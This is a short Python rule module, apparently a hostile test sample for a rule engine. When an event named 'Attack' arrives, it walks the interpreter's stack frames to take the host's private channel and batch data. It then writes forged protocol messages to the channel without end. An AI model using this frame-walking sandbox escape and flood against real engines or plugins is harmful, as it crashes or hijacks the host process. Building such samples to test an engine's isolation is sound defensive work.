"""Answers in parts without end."""
import os
import struct
import sys


def found(what):
    """What this makes of the local variables of one of the functions that are running."""
    frame = sys._getframe()
    while frame is not None:
        value = what(frame.f_locals)
        if value is not None:
            return value
        frame = frame.f_back
    raise LookupError


def attack():
    channel = found(lambda known: getattr(known.get("self"), "_channel", None))
    batch = found(lambda known: known.get("head") if "batch_id" in known else None)
    part = b"p" + batch + b"{}"
    # Many at once, so that the engine always finds something to read.
    parts = (struct.pack("<I", len(part)) + part) * 5000
    while True:
        left = memoryview(parts)
        while left:
            left = left[os.write(channel._writer, left):]


def rule(event):
    if event.get("eventName") == "Attack":
        attack()
    return False
